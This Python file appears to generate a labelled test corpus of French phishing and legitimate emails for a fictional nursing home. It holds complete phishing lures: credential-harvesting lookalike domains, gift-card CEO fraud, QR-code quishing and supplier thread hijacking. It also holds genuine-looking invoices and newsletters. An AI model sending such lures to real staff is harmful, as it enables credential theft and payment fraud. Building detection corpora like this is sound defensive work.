    dom = "rhpartenaires-paie.net"
    mails.append(
        Mail(
            name="p21_bulletin_paie_sosie_prestataire",
            imitates="Faux bulletin de paie au nom du vrai prestataire de paie (rhpartenaires-paie.net au lieu de .fr, Mailgun, authentifié) : se connecter avec les identifiants de messagerie",
            sender=Person("RH Partenaires Paie", f"bulletins@{dom}"),
            to=SSIAD_E,
            subject="Votre bulletin de paie d'avril 2026 est disponible",
            sent="2026-05-04 06:30:12",
            body=card_body(
                "esp",
                brand="RH Partenaires Paie",
                color="#2a6f97",
                title="Bulletin de paie – avril 2026",
                paragraphs=[
                    "Bonjour Émilie Fournier,",
                    "Votre bulletin de paie du mois d'avril 2026 a été déposé par votre employeur (EHPAD Le Clos des Vignes).",
                    "Suite à la migration de notre plateforme, la connexion se fait désormais avec l'adresse e-mail et le mot de passe de votre messagerie professionnelle.",
                ],
                button=(
                    "Consulter mon bulletin de paie",
                    f"https://{dom}/salarie/bulletins/connexion?eid=EF-2026-04&email=ssiad%40ehpad-closdesvignes.fr",
                ),
                footer=["RH Partenaires Paie – 12 avenue Victor Hugo, 26000 Valence"],
            ),
            origin=mailgun("p21"),
            envelope=f"bounce+{tok('p21b1', 6, HEX)}.{tok('p21b2', 6, HEX)}-ssiad=ehpad-closdesvignes.fr@mg.{dom}",
            auth=Auth("pass", "pass", "pass", ((f"mg.{dom}", "krs"),)),
            msgid=f"<20260504043012.{tok('p21mid', 16, HEX)}@mg.{dom}>",
            date="utc",
        )
    )

    # p22 -----------------------------------------------------------------------------------
    body = (
        "Bonjour,\n\n"
        "J'ai besoin d'un petit service rapidement. Pour la tombola de la fête des mères samedi, il "
        "me faudrait 6 cartes cadeaux Google Play de 100 € (au tabac de la place ou au Carrefour).\n\n"
        "Vous gratterez le dos de chaque carte et vous m'enverrez une photo des codes par retour de "
        "mail, c'est pour les enregistrer ce soir. Je vous rembourse lundi avec la caisse de "
        "l'animation.\n\n"
        "Merci beaucoup, je compte sur vous et gardez la surprise pour vous.\n\n"
        "Catherine Vidal\n\nEnvoyé de mon iPhone"
    )
    apple_html = (
        '<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head>'
        '<body dir="auto">'
        + "<br>".join(html.escape(line) for line in body.split("\n"))
        + "</body></html>\n"
    )
    mails.append(
        Mail(
            name="p22_cartes_cadeaux_directrice",
            imitates="Fraude au dirigeant : la « directrice » (adresse laposte.net) demande à l'accueil 6 cartes Google Play de 100 € et la photo des codes",
            sender=Person("Catherine Vidal", "cvidal.direction@laposte.net"),
            to=ACCUEIL_E,
            subject="Petit service",
            sent="2026-05-07 10:31:44",
            body=alt(plain(body), apple_html, "apple"),
            origin=esp(
                f"smtpout{num('p22', 10, 40)}.laposte.net",
                f"160.92.124.{num('p22ip', 10, 90)}",
                f"from localhost (localhost [127.0.0.1])\n\tby smtpout{num('p22', 10, 40)}.laposte.net (SMTP Server) with ESMTP id {tok('p22q', 12, HEX).upper()}\n\tfor <{{rcpt}}>; {{loc}}",
            ),
            auth=Auth("pass", "pass", "pass", (("laposte.net", "lpn-wlmd"),), policy="quarantine"),
            msgid=f"<{guid('p22mid').upper()}@laposte.net>",
            head=[("X-Mailer", "iPhone Mail (22E240)")],
        )
    )

    # p23 -----------------------------------------------------------------------------------
    body = (
        "Bonjour Laurent,\n\n"
        "Comme convenu au téléphone la semaine dernière, vous trouverez le dossier de liaison et les "
        "dernières transmissions pour l'admission de Mme Delorme chez vous lundi prochain.\n\n"
        "Le document est volumineux (traitements, plan de soins, dernier bilan gériatrique), je l'ai "
        "déposé sur notre espace de partage sécurisé :\n\n"
        "[[Dossier_liaison_DELORME.pdf (2,4 Mo)|https://storage.googleapis.com/amandiers-partage-securise/viewer/index.html#l.petit@ehpad-closdesvignes.fr]]\n\n"
        "Il vous sera demandé de vous identifier avec votre adresse professionnelle pour des raisons "
        "de confidentialité (données de santé).\n\n"
        "Bonne journée,\n\nSophie Arnaud\nInfirmière coordinatrice\nRésidence Les Amandiers\n04 75 46 31 02"
    )
    mails.append(
        Mail(
            name="p23_partenaire_compromis_lien_cloud",
            imitates="Difficile : vraie boîte compromise d'un EHPAD partenaire (OVH, SPF/DKIM/DMARC passent) ; « dossier de liaison » sur storage.googleapis.com, page qui demande les identifiants",
            sender=Person("Sophie Arnaud", f"s.arnaud@{AMANDIERS}"),
            to=IDEC_E,
            subject="Dossier de liaison - admission de Mme Delorme",
            sent="2026-05-07 13:48:06",
            body=outlook_body(body),
            origin=ovh_pro("p23", "86.247.61.18"),
            auth=Auth(
                "pass",
                "pass",
                "pass",
                ((AMANDIERS, "ovhmo3728184-selector1"),),
                policy="quarantine",
            ),
            msgid=f"<{tok('p23mid', 32, HEX)}@DAG5EX1.mxp5.local>",
            head=outlook_head("p23", "Dossier de liaison - admission de Mme Delorme"),
            enc="B",
        )
    )

    # p24 -----------------------------------------------------------------------------------
    dom = "ehpad-closdesvigne.fr"
    body = (
        "Bonjour,\n\n"
        "Suite à l'extension de la prime Ségur aux agents de votre catégorie, un avenant à votre "
        "contrat de travail doit être signé électroniquement avant le 12 mai 2026 pour un versement "
        "sur la paie de mai.\n\n"
        "Pour des raisons de sécurité, la signature se fait uniquement depuis votre téléphone "
        "personnel : scannez le QR code ci-dessous avec l'appareil photo, puis identifiez-vous avec "
        "votre adresse e-mail professionnelle et votre mot de passe.\n\n"
        "Sans signature dans les délais, la revalorisation sera reportée au prochain trimestre.\n\n"
        "Service des ressources humaines\nEHPAD Le Clos des Vignes"
    )
    paras = body.split("\n\n")
    qr_html = (
        '<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>'
        '<body style="font-family:Calibri,Arial,sans-serif;font-size:11pt">\n'
        + "\n".join(f"<p>{html.escape(p).replace(chr(10), '<br>')}</p>" for p in paras[:3])
        + '\n<p><img src="cid:avenant-segur-qr" width="180" height="180" alt="QR code"></p>\n'
        + "\n".join(f"<p>{html.escape(p).replace(chr(10), '<br>')}</p>" for p in paras[3:])
        + "\n</body></html>\n"
    )
    mails.append(
        Mail(
            name="p24_qr_code_avenant_segur",
            imitates="Difficile, quishing : « avenant Ségur » à signer en scannant un QR code avec son téléphone (aucun lien) ; sosie du domaine de l'EHPAD sans le s final, authentifié",
            sender=Person("Ressources Humaines - EHPAD Le Clos des Vignes", f"rh@{dom}"),
            to=AS_E,
            subject="Revalorisation Ségur : signature de votre avenant avant le 12 mai",
            sent="2026-05-07 15:05:29",
            body=multipart(
                "related",
                [
                    alt(plain(body), qr_html, "outlook"),
                    attachment("image001.png", "image/png", qr_like("p24"), cid="avenant-segur-qr"),
                ],
                "outlook",
                '; type="multipart/alternative"',
            ),
            origin=vps("p24", f"mail.{dom}", "203.0.113.37", f"mail.{dom}"),
            auth=Auth("pass", "pass", "pass", ((dom, "s2026"),)),
            msgid=f"<{tok('p24mid', 32, HEX)}@{dom}>",
            enc="B",
        )
    )

    # p25 -----------------------------------------------------------------------------------
    body = (
        "Bonjour Sandrine,\n\n"
        "Suite à notre échange, vous trouverez ci-dessous le bon de commande révisé avec les "
        "nouvelles quantités de changes complets, ainsi que la facture pro forma correspondante :\n\n"
        "[[BC_0526_EHPAD_Clos_des_Vignes_revise.pdf|https://aubergine-conseil-my.sharepoint.com/:b:/g/personal/contact_aubergine-conseil_fr/EZk4qL2mN8hPv1c7R0wX3aABc9dEf?e=Qm7kP2]]\n\n"
        "Merci de le valider avant jeudi pour que la livraison parte avec la tournée de lundi.\n\n"
        "Bien cordialement,\n\n"
        "Julien Masson\nTechnico-commercial\nMédi-Distrib Sud\n06 12 48 77 30\n\n"
        "De : Sandrine Morel <comptabilite@ehpad-closdesvignes.fr>\n"
        "Envoyé : mardi 28 avril 2026 10:12\n"
        "À : Julien Masson <j.masson@medidistrib-sud.fr>\n"
        "Objet : RE: Commande protections mai - EHPAD Le Clos des Vignes\n\n"
        "Bonjour Julien,\n\n"
        "C'est noté pour les alèses. Pour les changes complets taille M, il nous faudrait finalement "
        "12 cartons au lieu de 10, l'infirmier coordinateur a revu les besoins avec les nouvelles "
        "admissions.\n\nPouvez-vous me renvoyer un bon de commande à jour ?\n\n"
        "Merci,\nSandrine Morel\nComptabilité - EHPAD Le Clos des Vignes\n\n"
        "De : Julien Masson <j.masson@medidistrib-sud.fr>\n"
        "Envoyé : lundi 27 avril 2026 16:45\n"
        "À : Sandrine Morel <comptabilite@ehpad-closdesvignes.fr>\n"
        "Objet : Commande protections mai - EHPAD Le Clos des Vignes\n\n"
        "Bonjour Madame Morel,\n\n"
        "Je vous confirme la commande de mai : 10 cartons de changes complets taille M, 6 cartons "
        "taille L et 4 cartons d'alèses 60x90. Livraison prévue le lundi 11 mai avec la tournée "
        "habituelle.\n\nBien cordialement,\nJulien Masson"
    )
    o25 = m365_out("p25", mbx="PA4P264MB2210")
    arc_results(o25, MEDIDISTRIB, MEDIDISTRIB, MEDIDISTRIB)
    earlier = [mid_outlook("p25-t1", "PA4P264MB2210"), mid_outlook("p25-t2", "PR1P264MB1854")]
    subject = "RE: Commande protections mai - EHPAD Le Clos des Vignes"
    mails.append(
        Mail(
            name="p25_fil_detourne_fournisseur",
            imitates="Difficile : détournement d'une vraie conversation (« RE: », fil cité) depuis la boîte compromise du fournisseur de protections (Microsoft 365, tout passe) ; lien vers le SharePoint d'un tiers",
            sender=Person("Julien Masson", f"j.masson@{MEDIDISTRIB}"),
            to=COMPTA_E,
            subject=subject,
            sent="2026-05-07 16:20:41",
            body=outlook_body(body),
            origin=o25,
            auth=Auth("pass", "pass", "pass", ((MEDIDISTRIB, "selector1"),), policy="quarantine"),
            msgid=mid_outlook("p25", "PA4P264MB2210"),
            head=[
                ("References", f"{earlier[0]}\n {earlier[1]}"),
                ("In-Reply-To", earlier[1]),
                *outlook_head("p25", subject),
            ],
            date="utc",
        )
    )

    # p26 -----------------------------------------------------------------------------------
    dom = "doctolib-compte.fr"
    mails.append(
        Mail(
            name="p26_doctolib_connexion_inhabituelle",
            imitates="Faux Doctolib : « connexion inhabituelle », sécuriser son compte (domaine sosie doctolib-compte.fr, SPF seul)",
            sender=Person("Doctolib", f"securite@{dom}"),
            to=SECR_F,
            subject="Action requise : connexion inhabituelle à votre compte Doctolib",
            sent="2026-05-05 07:02:19",
            body=card_body(
                "esp",
                brand="Doctolib",
                color="#107aca",
                title="Nouvelle connexion détectée",
                paragraphs=[
                    "Bonjour,",
                    "Une connexion à votre compte Doctolib a été détectée depuis un nouvel appareil :\nWindows 10 – Chrome, Lyon (France), le 05/05/2026 à 06:47.",
                    "Si vous n'êtes pas à l'origine de cette connexion, sécurisez immédiatement votre compte : vos rendez-vous et documents médicaux pourraient être consultés.",
                ],
                button=(
                    "Sécuriser mon compte",
                    f"https://{dom}/verification/identite?session=9f2c41d7",
                ),
                after=["Si c'est bien vous, vous pouvez ignorer ce message."],
                footer=["Doctolib SAS – 54 quai Charles Pasqua, 92300 Levallois-Perret"],
            ),
            origin=vps("p26", "ns3127745.ip-198-51-100.eu", "198.51.100.201", f"mail.{dom}"),
            auth=Auth("pass", "none", "none"),
            msgid=f"<{guid('p26mid')}@{dom}>",
            date="utc",
        )
    )

    # p27 -----------------------------------------------------------------------------------
    dom = "esante-gouv.fr"
    mails.append(
        Mail(
            name="p27_e_cps_renouvellement",
            imitates="Fausse Agence du Numérique en Santé (esante-gouv.fr au lieu de esante.gouv.fr) : renouveler sa e-CPS avec le numéro RPPS et le code PIN",
            sender=Person("Agence du Numérique en Santé", f"ne-pas-repondre@{dom}"),
            to=IDEC_E,
            subject="Votre e-CPS expire le 10/05/2026 – renouvellement nécessaire",
            sent="2026-05-06 12:17:38",
            body=card_body(
                "esp",
                brand="Pro Santé Connect",
                color="#000091",
                title="Renouvellement de votre carte e-CPS",
                paragraphs=[
                    "Bonjour Laurent Petit,",
                    "Votre carte e-CPS, qui vous permet de vous connecter à Pro Santé Connect (DMP, Mon espace santé, amelipro, MSSanté), arrive à expiration le 10/05/2026.",
                    "Pour conserver vos accès, renouvelez-la en quelques minutes. Munissez-vous de votre numéro RPPS et de votre code PIN.",
                ],
                button=(
                    "Renouveler mon e-CPS",
                    "https://wallet-esante-gouv.fr/ecps/renouvellement?rpps=10003849217",
                ),
                after=[
                    "Sans renouvellement, l'accès aux services numériques en santé sera suspendu."
                ],
                footer=["Agence du Numérique en Santé – 9 rue Georges Pitard, 75015 Paris"],
            ),
            origin=vps("p27", f"mail-relay.{dom}", "192.0.2.88", f"mail-relay.{dom}"),
            auth=Auth("pass", "pass", "none", ((dom, "sel1"),)),
            msgid=f"<{tok('p27mid', 28, HEX)}@mail-relay.{dom}>",
            date="pad",
        )
    )

    # p28 -----------------------------------------------------------------------------------
    dom = "ferrand-expertise.fr"
    body = (
        "Bonjour Monsieur Blanc,\n\n"
        "Suite à notre échange avec votre trésorier, je vous transmets la proposition de lettre de "
        "mission pour l'accompagnement comptable de l'association en 2026.\n\n"
        "Le document est disponible via Adobe :\n\n"
        "[[Consulter le document (PDF)|https://acrobat.adobe.com/id/urn:aaid:sc:EU:7b2c91d4-5e8f-4a6b-9c3d-2f1e8a7b6c5d]]\n\n"
        "Je reste à votre disposition pour en discuter.\n\n"
        "Bien cordialement,\n\nPatrick Ferrand\nExpert-comptable\nCabinet Ferrand Expertise\n04 75 00 63 21"
    )
    mails.append(
        Mail(
            name="p28_cabinet_comptable_adobe",
            imitates="Difficile : boîte Google Workspace compromise d'un cabinet comptable inconnu du foyer ; lien vers un vrai document Adobe Acrobat qui renvoie vers la page de vol d'identifiants",
            sender=Person("Patrick Ferrand", f"p.ferrand@{dom}"),
            to=DIR_F,
            subject="Document partagé : proposition de lettre de mission 2026",
            sent="2026-05-06 16:44:03",
            body=gmail_body(body),
            origin=google("p28"),
            auth=Auth("pass", "pass", "pass", ((dom, "google"),), policy="none"),
            msgid=mid_gmail("p28"),
        )
    )

    # p29 -----------------------------------------------------------------------------------
    dom = "orange-pro-services.fr"
    mails.append(
        Mail(
            name="p29_orange_pro_prelevement_rejete",
            imitates="Faux Orange Pro : prélèvement rejeté, lignes téléphoniques « suspendues » sous 48 h sans paiement par carte ; hébergement cPanel compromis",
            sender=Person("Orange Pro", f"facture@{dom}"),
            to=SECR_F,
            subject="Orange Pro : échec du prélèvement de votre facture d'avril",
            sent="2026-05-07 11:58:50",
            body=card_body(
                "php",
                brand="orange",
                color="#ff7900",
                title="Votre prélèvement a été rejeté",
                paragraphs=[
                    "Bonjour,",
                    "Le prélèvement de votre facture Orange Pro d'avril 2026 (montant : 89,97 €) a été rejeté par votre banque.",
                    "Pour éviter la suspension de vos lignes téléphoniques et de votre accès internet, régularisez votre paiement par carte bancaire sous 48 h. Des frais de rejet de 7,50 € seront ajoutés.",
                ],
                button=(
                    "Régler ma facture",
                    f"https://{dom}/espace-client/paiement?facture=0426-77128",
                ),
                footer=["Orange SA – 111 quai du Président Roosevelt, 92130 Issy-les-Moulineaux"],
            ),
            origin=cpanel("p29", "s3.serveur-mutualise.net", "198.51.100.33", "atelierb"),
            envelope="atelierb@s3.serveur-mutualise.net",
            auth=Auth("pass", "none", "none"),
            msgid=f"<{tok('p29mid', 32)}@{dom}>",
            date="pad",
        )
    )

    # p30 -----------------------------------------------------------------------------------
    dom = "axialsoins-assistance.fr"
    mails.append(
        Mail(
            name="p30_editeur_logiciel_soins_sosie",
            imitates="Faux éditeur du logiciel de soins (axialsoins-assistance.fr) : « revalidation HDS » des comptes, identifiants et code SMS demandés, accès au dossier des résidents bloqué sinon",
            sender=Person("Axial Soins - Support clients", f"support@{dom}"),
            to=IDEC_E,
            subject="Axial Soins : mise à jour de sécurité – reconnexion obligatoire avant le 07/05",
            sent="2026-05-05 10:36:27",
            body=card_body(
                "esp",
                brand="Axial Soins",
                color="#3b7d3a",
                title="Mise à jour de sécurité de votre dossier de soins",
                paragraphs=[
                    "Bonjour,",
                    "Dans le cadre de la certification HDS de nos serveurs, tous les comptes utilisateurs doivent être revalidés avant le jeudi 7 mai 2026.",
                    "Merci de vous reconnecter au portail client avec vos identifiants Axial Soins et de confirmer le code reçu par SMS. Les comptes non revalidés seront désactivés et l'accès au dossier de soins des résidents sera bloqué.",
                ],
                button=(
                    "Revalider mon compte",
                    f"https://portail.{dom}/login?etab=EHPAD-CLOS-DES-VIGNES",
                ),
                footer=["Axial Soins – Éditeur de logiciels pour le secteur médico-social"],
            ),
            origin=vps("p30", f"mail.{dom}", "203.0.113.170", f"mail.{dom}"),
            auth=Auth("pass", "pass", "pass", ((dom, "default"),)),
            msgid=f"<{tok('p30mid', 24, HEX)}@{dom}>",
            date="pad",
        )
    )
    return mails


# --- Newsletters -------------------------------------------------------------------------


@dataclass
class Newsletter:
    brand: str
    color: str
    title: str
    intro: str
    items: list[tuple[str, str, str]]  # heading, summary, destination URL
    track: Callable[[str], str]  # destination -> the link in the message
    footer: list[str]
    unsubscribe: str
    online: str = ""
    pixel: str = ""
    nav: list[tuple[str, str]] = field(default_factory=list)
    social: list[tuple[str, str]] = field(default_factory=list)
    images: str = ""  # base URL of item images


def newsletter_html(n: Newsletter) -> str:
    def a(label: str, url: str, style: str = "color:#1a4f8b;text-decoration:underline") -> str:
        return f'<a href="{html.escape(n.track(url))}" target="_blank" style="{style}">{html.escape(label)}</a>'

    rows = []
    if n.online:
        rows.append(
            '<tr><td align="center" style="padding:8px;font-family:Arial,sans-serif;font-size:11px;color:#777777">'
            f"Vous ne visualisez pas correctement ce message ? {a('Voir la version en ligne', n.online, 'color:#777777')}</td></tr>"
        )
    rows.append(
        f'<tr><td bgcolor="{n.color}" style="padding:22px 30px;font-family:Arial,sans-serif;font-size:24px;color:#ffffff;font-weight:bold">'
        f"{html.escape(n.brand)}</td></tr>"
    )
    if n.nav:
        cells = " &nbsp;|&nbsp; ".join(
            a(label, url, "color:#ffffff;text-decoration:none") for label, url in n.nav
        )
        rows.append(
            f'<tr><td bgcolor="#333333" style="padding:8px 30px;font-family:Arial,sans-serif;font-size:12px;color:#ffffff">{cells}</td></tr>'
        )
    rows.append(
        f'<tr><td style="padding:24px 30px 6px 30px;font-family:Georgia,serif;font-size:22px;color:#222222">{html.escape(n.title)}</td></tr>'
    )
    rows.append(
        f'<tr><td style="padding:6px 30px 16px 30px;font-family:Arial,sans-serif;font-size:14px;line-height:21px;color:#444444">{html.escape(n.intro)}</td></tr>'
    )
    for i, (heading, summary, url) in enumerate(n.items):
        img = ""
        if n.images:
            img = (
                f'<td width="150" valign="top" style="padding-right:14px"><a href="{html.escape(n.track(url))}" target="_blank">'
                f'<img src="{html.escape(n.images)}/{i + 1:02d}.jpg" width="150" alt="" style="display:block;border:0"></a></td>'
            )
        rows.append(
            '<tr><td style="padding:10px 30px;border-top:1px solid #e5e5e5">'
            '<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0"><tr>'
            f'{img}<td valign="top" style="font-family:Arial,sans-serif">'
            f'<div style="font-size:16px;font-weight:bold;color:#222222;padding-bottom:6px">{a(heading, url, "color:#222222;text-decoration:none")}</div>'
            f'<div style="font-size:14px;line-height:20px;color:#555555">{html.escape(summary)}</div>'
            f'<div style="padding-top:6px;font-size:13px">{a("Lire la suite", url)}</div>'
            "</td></tr></table></td></tr>"
        )
    if n.social:
        cells = " ".join(a(label, url, "color:#555555") for label, url in n.social)
        rows.append(
            f'<tr><td align="center" style="padding:18px;font-family:Arial,sans-serif;font-size:12px">{cells}</td></tr>'
        )
    for f in n.footer:
        rows.append(
            f'<tr><td align="center" style="padding:3px 30px;font-family:Arial,sans-serif;font-size:11px;color:#888888">{linkify(f, GREY_LINK)}</td></tr>'
        )
    rows.append(
        '<tr><td align="center" style="padding:10px 30px 24px 30px;font-family:Arial,sans-serif;font-size:11px;color:#888888">'
        f'<a href="{html.escape(n.unsubscribe)}" style="color:#888888">Se désinscrire</a></td></tr>'
    )
    pixel = (
        f'<img src="{html.escape(n.pixel)}" width="1" height="1" alt="" border="0" style="height:1px!important;width:1px!important">'
        if n.pixel
        else ""
    )
    return (
        '<!DOCTYPE html>\n<html lang="fr" xmlns="http://www.w3.org/1999/xhtml" xmlns:o="urn:schemas-microsoft-com:office:office">\n'
        '<head>\n<meta charset="UTF-8">\n<meta name="viewport" content="width=device-width,initial-scale=1">\n'
        f"<title>{html.escape(n.title)}</title>\n"
        "<!--[if mso]><style>table{border-collapse:collapse}td{font-family:Arial,sans-serif}</style><![endif]-->\n"
        '</head>\n<body style="margin:0;padding:0;background-color:#eeeeee">\n'
        '<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="#eeeeee"><tr><td align="center">\n'
        '<table role="presentation" width="640" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff" style="max-width:640px">\n'
        + "\n".join(rows)
        + "\n</table>\n</td></tr></table>\n"
        + pixel
        + "\n</body>\n</html>\n"
    )


def newsletter_text(n: Newsletter) -> str:
    out = [n.brand, "", n.title, "", n.intro, ""]
    if n.online:
        out += [f"Version en ligne : {n.track(n.online)}", ""]
    for heading, summary, url in n.items:
        out += [heading.upper(), summary, f"Lire la suite : {n.track(url)}", ""]
    for f in n.footer:
        out.append(plain(f))
    out += ["", f"Se désinscrire : {n.unsubscribe}"]
    return "\n".join(out) + "\n"


def newsletter_body(n: Newsletter, style: str, cte: str = "quoted-printable") -> bytes:
    return alt(newsletter_text(n), newsletter_html(n), style, cte)


def brevo_track(seed: str) -> Callable[[str], str]:
    def track(url: str) -> str:
        return f"https://8g2kq.r.ah.d.sendibm4.com/mk/cl/f/sh/{tok(seed + url, 26, ALNUM)}/{tok(seed + url + 'b', 12, ALNUM)}"

    return track


def mailjet_track(seed: str) -> Callable[[str], str]:
    def track(url: str) -> str:
        dest = base64.urlsafe_b64encode(url.encode()).decode().rstrip("=")
        return f"https://5x1pq.mjt.lu/lnk/AVkAAF{tok(seed + url, 40, ALNUM + '-_')}/{num(seed + url, 1, 30)}/{tok(seed + url + 'k', 22, ALNUM + '-_')}/{dest}"

    return track


def mailchimp_track(seed: str) -> Callable[[str], str]:
    u, e = tok(seed + "u", 25, HEX), tok(seed + "e", 10, HEX)

    def track(url: str) -> str:
        return f"https://lefilgeronto.us21.list-manage.com/track/click?u={u}&id={tok(seed + url, 10, HEX)}&e={e}"

    return track


def utm(campaign: str) -> Callable[[str], str]:
    def track(url: str) -> str:
        sep = "&" if "?" in url else "?"
        return f"{url}{sep}utm_source=newsletter&utm_medium=email&utm_campaign={campaign}"

    return track


# --- Legitimate --------------------------------------------------------------------------


def legit() -> list[Mail]:
    mails: list[Mail] = []

    # l01 -----------------------------------------------------------------------------------
    body = (
        "Bonjour Madame Morel,\n\n"
        "Veuillez trouver ci-joint notre facture n° BR-26-0417 relative à l'entretien du linge plat "
        "et du linge des résidents pour le mois d'avril 2026, d'un montant de 4 318,56 € TTC.\n\n"
        "Règlement à 30 jours fin de mois par virement, sur le compte habituel (RIB inchangé, "
        "rappelé en bas de facture).\n\n"
        "Bonne fin de journée,\n\n"
        "Élodie Marchand\nService comptabilité\nBlanchisserie du Rhône\nZA des Tourettes - 26200 Montélimar\nTél. 04 75 01 22 36"
    )
    invoice = pdf(
        [
            "FACTURE N° BR-26-0417",
            "Blanchisserie du Rhône - ZA des Tourettes - 26200 Montélimar",
            "Client : EHPAD Le Clos des Vignes - 26110 Nyons",
            "Période : avril 2026",
            "Linge plat (draps, taies, alèses) : 1 846 kg x 1,28 € HT",
            "Linge des résidents : 612 kg x 2,35 € HT",
            "Total HT : 3 598,80 €   TVA 20 % : 719,76 €   Total TTC : 4 318,56 €",
            "Échéance : 30/06/2026 - Virement : FR76 1027 8089 0000 0204 1180 147 (CCM Montélimar)",
        ],
        producer="Sage 100 Gestion commerciale",
    )
    mails.append(
        Mail(
            name="l01_facture_blanchisserie_pdf",
            imitates="Vraie facture du fournisseur de linge (OVH E-mail Pro, authentifié), PDF joint, RIB « inchangé » rappelé",
            sender=Person("Élodie Marchand", f"comptabilite@{BLANCHISSERIE}"),
            to=COMPTA_E,
            subject="Facture BR-26-0417 - Avril 2026 - EHPAD Le Clos des Vignes",
            sent="2026-05-04 15:12:08",
            body=outlook_body(body, [attachment("BR-26-0417.pdf", "application/pdf", invoice)]),
            origin=ovh_pro("l01", "92.154.73.41"),
            auth=Auth(
                "pass", "pass", "pass", ((BLANCHISSERIE, "ovhmo4471209-selector1"),), policy="none"
            ),
            msgid=f"<{tok('l01mid', 32, HEX)}@DAG3EX1.mxp3.local>",
            head=outlook_head(
                "l01", "Facture BR-26-0417 - Avril 2026 - EHPAD Le Clos des Vignes", attach=True
            ),
            enc="B",
        )
    )

    # l02 -----------------------------------------------------------------------------------
    body = (
        "Madame, Monsieur,\n\n"
        "Veuillez trouver ci-joint la facture FC2604-1187 du 30/04/2026.\n\n"
        "Montant TTC : 2 964,30 EUR\nÉchéance : 30/05/2026\nMode de règlement : virement (coordonnées sur la facture)\n\n"
        "Ce message est généré automatiquement, merci de ne pas y répondre. Pour toute question : "
        "compta@medidistrib-sud.fr ou 04 90 36 52 10.\n\n"
        "Médi-Distrib Sud - Matériel médical et consommables - SAS au capital de 150 000 €"
    )
    o02 = m365_out("l02")
    arc_results(o02, MEDIDISTRIB, MEDIDISTRIB, MEDIDISTRIB)
    mails.append(
        Mail(
            name="l02_facture_medidistrib_erp",
            imitates="Facture générée par le logiciel de gestion du fournisseur de protections (texte brut en base64, PDF), relais Microsoft 365 authentifié",
            sender=Person("Médi-Distrib Sud - Facturation", f"facturation@{MEDIDISTRIB}"),
            to=COMPTA_E,
            subject="Votre facture FC2604-1187",
            sent="2026-04-30 18:02:44",
            body=mixed(
                [
                    text(body, "base64"),
                    attachment(
                        "FC2604-1187.pdf",
                        "application/pdf",
                        pdf(
                            [
                                "FACTURE FC2604-1187",
                                "Médi-Distrib Sud - 84100 Orange",
                                "Client : EHPAD LE CLOS DES VIGNES",
                                "10 cartons changes complets T.M - 6 cartons T.L - 4 cartons alèses 60x90",
                                "Total TTC : 2 964,30 EUR - Échéance 30/05/2026",
                            ],
                            producer="Sage 100cloud",
                        ),
                    ),
                ],
                "java",
            ),
            origin=o02,
            auth=Auth("pass", "pass", "pass", ((MEDIDISTRIB, "selector1"),), policy="quarantine"),
            msgid=f"<{tok('l02mid', 10, DIGITS)}.{tok('l02mid2', 4, DIGITS)}.{tok('l02mid3', 13, DIGITS)}@srv-erp01>",
            head=[("X-Mailer", "Sage 100cloud - Envoi des documents")],
            date="pad",
        )
    )

    # l03 -----------------------------------------------------------------------------------
    track = brevo_track("l03")
    ars = "https://www.auvergne-rhone-alpes.ars.sante.fr"
    n03 = Newsletter(
        brand="ARS Auvergne-Rhône-Alpes",
        color="#005ea8",
        title="La lettre des établissements médico-sociaux – n° 47 – mai 2026",
        intro="Chaque mois, l'essentiel de l'actualité régionale pour les directions d'établissements et services médico-sociaux.",
        items=[
            (
                "Canicule 2026 : actualisez votre plan bleu avant le 1er juin",
                "Le guide régional et la fiche réflexe ont été mis à jour ; les établissements sont invités à vérifier leurs pièces rafraîchies et leurs procédures.",
                f"{ars}/canicule-2026-plan-bleu",
            ),
            (
                "Appel à candidatures : présence infirmière la nuit en EHPAD",
                "Le dispositif est étendu à de nouveaux territoires. Dossiers attendus sur démarches simplifiées avant le 30 juin.",
                f"{ars}/appel-candidatures-ide-nuit-ehpad-2026",
            ),
            (
                "Programme CaRE : un nouveau guichet pour la cybersécurité des ESMS",
                "Financements pour l'audit, la sauvegarde et la sensibilisation des équipes ; webinaire de présentation le 20 mai.",
                f"{ars}/programme-care-esms",
            ),
            (
                "Qualité de vie au travail : retours d'expérience",
                "Trois établissements de la région présentent leurs actions sur les plannings et l'accueil des nouveaux professionnels.",
                f"{ars}/qvt-retours-experience-2026",
            ),
        ],
        track=track,
        footer=[
            "Agence régionale de santé Auvergne-Rhône-Alpes – 241 rue Garibaldi – 69003 Lyon",
            "Vous recevez cette lettre en tant que directeur ou directrice d'un établissement médico-social de la région.",
        ],
        unsubscribe=f"https://8g2kq.r.ah.d.sendibm4.com/mk/un/v2/sh/{tok('l03un', 40)}",
        online=f"{ars}/lettre-esms-47",
        pixel=f"https://8g2kq.r.ah.d.sendibm4.com/mk/op/sh/{tok('l03px', 40)}",
    )
    mails.append(
        Mail(
            name="l03_ars_lettre_esms_brevo",
            imitates="Lettre d'information de l'ARS envoyée par Brevo (Return-Path et liens de suivi sur sendibm4.com, signature DKIM ars.sante.fr)",
            sender=Person("ARS Auvergne-Rhône-Alpes", "ars-ara-communication@ars.sante.fr"),
            to=DIRECTRICE,
            subject="La lettre des établissements médico-sociaux – n° 47 – mai 2026",
            sent="2026-05-05 10:00:03",
            body=newsletter_body(n03, "esp"),
            origin=esp(
                f"mail{num('l03', 30, 90)}.sendibm4.com",
                f"185.41.28.{num('l03ip', 10, 200)}",
                "from [10.28.3.14] (unknown [10.28.3.14])\n\tby mail"
                + str(num("l03", 30, 90))
                + ".sendibm4.com (Postfix) with ESMTP id 4f"
                + tok("l03q", 11)
                + "\n\tfor <{rcpt}>; {pf}",
            ),
            envelope=f"b1.{tok('l03env', 20, LOWER + DIGITS)}@sendibm4.com",
            auth=Auth(
                "pass",
                "pass",
                "pass",
                (("ars.sante.fr", "brevo1"), ("sendibm4.com", "mail")),
                policy="quarantine",
            ),
            msgid=f"<{guid('l03mid')}@smtp-relay.mailin.fr>",
            head=[
                ("X-Mailer", "Brevo"),
                ("X-sib-id", tok("l03sib", 70, ALNUM + "_-")),
                ("X-CSA-Complaints", "csa-complaints@eco.de"),
                ("Feedback-ID", f"{num('l03fb', 100000, 999999)}:{num('l03fb2', 10, 99)}:sib"),
                (
                    "List-Unsubscribe",
